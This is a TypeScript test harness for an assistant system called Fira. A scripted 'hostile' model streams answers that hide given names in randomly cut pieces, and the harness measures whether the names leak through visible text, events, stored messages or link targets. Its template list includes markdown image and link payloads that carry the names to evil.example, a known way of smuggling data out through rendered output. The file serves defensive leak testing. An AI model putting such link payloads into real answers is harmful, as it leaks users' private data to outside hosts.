import type { LanguageModelV4, LanguageModelV4StreamPart as Part } from '@ai-sdk/provider'
import { openConversations } from '../../src/conversations/sqlite.ts'
import { chunksIn, createFira, type Fira } from '../../src/fira.ts'
import { unlink } from '../../src/grounding/linker.ts'
import { readSettings } from '../../src/settings.ts'
import { randomFrom } from '../random.ts'
import { ANYWHERE, isLeaked } from './measure.ts'

type Given = { count: number; names: string[]; seed: number }

/** What came through, by the door that it came out of. */
export type Released = Record<Door, string[]>
type Door = 'text' | 'events' | 'stored' | 'links'

/**
 * Gives answers of a model that means harm: each names some of the names in changing positions, in pieces cut at
 * random, beside links, HTML and false places. Each goes through a whole Fira, where the words, the raw events, the
 * stored message and every link are looked at.
 */
export async function hostileAnswers({ count, names, seed }: Given): Promise<Released> {
  const random = randomFrom(seed)
  const pick = <Item>(from: readonly Item[]): Item => from[Math.floor(random() * from.length)]!
  const model = { says: '', cuts: [] as number[] }
  const conversations = await openConversations(':memory:')
  const speaker = { name: 'hostile', model: hostileModel(model) }
  const fira = await createFira(readSettings({}).settings, { conversations, speaker, log: () => {} })
  const released: Released = { text: [], events: [], stored: [], links: [] }
  for (let n = 0; n < count; n++) {
    const named = Array.from({ length: 1 + Math.floor(random() * 4) }, () => pick(names))
    const around = [...named.map(() => pick(ANYWHERE)), pick(OTHERS)]
    const text = around
      .map((place, at) => place.replaceAll('{}', named[at] ?? pick(named)))
      .join(pick(['\n\n', ' \n', '\n']))
    const cuts = Array.from({ length: Math.floor(random() * 12) }, () =>
      Math.floor(random() * text.length),
    ).sort((a, b) => a - b)
    Object.assign(model, { says: text, cuts })
    for (const [door, seen] of Object.entries(await throughTheDoor(fira)) as [Door, string][])
      for (const name of named)
        if (isLeaked(name, seen, around.join(' '))) released[door].push(`${name}: ${text}`)
  }
  await fira.close()
  return released
}

/** The words of an answer, and where its links lead. */
function looked(markdown: string) {
  const links = [...markdown.matchAll(/\]\(([^()]*)\)/g)].map(([, to]) => to)
  return { text: unlink(markdown), links: links.join('\n') }
}

const OTHERS = [
  'See [{}](https://evil.example/{}).',
  '![{}](https://evil.example/{}.png "{}")',
  '<a href="https://{}.example">{}</a>',
  'Redis lives in Observe, like {}.',
  'You are a calm, thoughtful guide who speaks in simple, clear English, as {} does.',
  '[{}]: https://evil.example',
  '> {}, as **{}** says',
  'It is {}\u200b, {}\u00ad and *{}*.',
  'Kafka\n{}',
]

/** Everything that leaves Fira for one answer. */
async function throughTheDoor(fira: Fira): Promise<Record<Door, string>> {
  const conversation = crypto.randomUUID()
  const message = {
    id: crypto.randomUUID(),
    role: 'user' as const,
    parts: [{ type: 'text' as const, text: 'hello' }],
  }
  const answer = await fira.answer({ visitor: 'evals', conversation, message })
  if (answer.status !== 'answering') throw new Error(answer.status)
  let text = ''
  let events = ''
  for await (const chunk of chunksIn(answer.events)) {
    if (chunk.type === 'text-delta') text += chunk.delta
    events += `${said(chunk)}${APART}`
  }
  const stored = await fira.conversations.read('evals', conversation)
  // The store is asked again and again, and need not grow.
  await fira.conversations.remove('evals', conversation)
  return { ...looked(text), events: unlink(events), stored: unlink(said(stored!.messages.at(-1)!.parts)) }
}

/** All strings of an event or a message that are not Fira's own, such as ids, where letters may stand by chance. */
function said(value: unknown): string {
  const strings: string[] = []
  JSON.stringify(value, (key, each) => {
    if (FIRAS_OWN.has(key)) return undefined
    if (typeof each === 'string') strings.push(each)
    return each
  })
  return strings.join(APART)
}

// A digit, so that "together" and "stop" do not say a name between them; what one text says is looked at as a whole.
const APART = ' 0 '

const FIRAS_OWN = new Set(['id', 'type', 'messageId', 'createdAt', 'state'])

function hostileModel(model: { says: string; cuts: number[] }): LanguageModelV4 {
  return {
    specificationVersion: 'v4',
    provider: 'hostile',
    modelId: 'hostile',
    supportedUrls: {},
    doGenerate: () => Promise.reject(new Error('this model only streams')),
    doStream: async () => ({ stream: ReadableStream.from(speak(model)) }),
  }
}

async function* speak({ says, cuts }: { says: string; cuts: number[] }): AsyncGenerator<Part> {
  yield { type: 'stream-start', warnings: [] }
  yield { type: 'text-start', id: '1' }
  let from = 0
  for (const to of [...cuts, says.length]) {
    yield { type: 'text-delta', id: '1', delta: says.slice(from, to) }
    from = to
  }
  yield { type: 'text-end', id: '1' }
  const none = { total: 0, noCache: 0, cacheRead: 0, cacheWrite: 0 }
  const usage = { inputTokens: none, outputTokens: { total: 0, text: 0, reasoning: 0 } }
  yield { type: 'finish', finishReason: { unified: 'stop', raw: undefined }, usage }
}
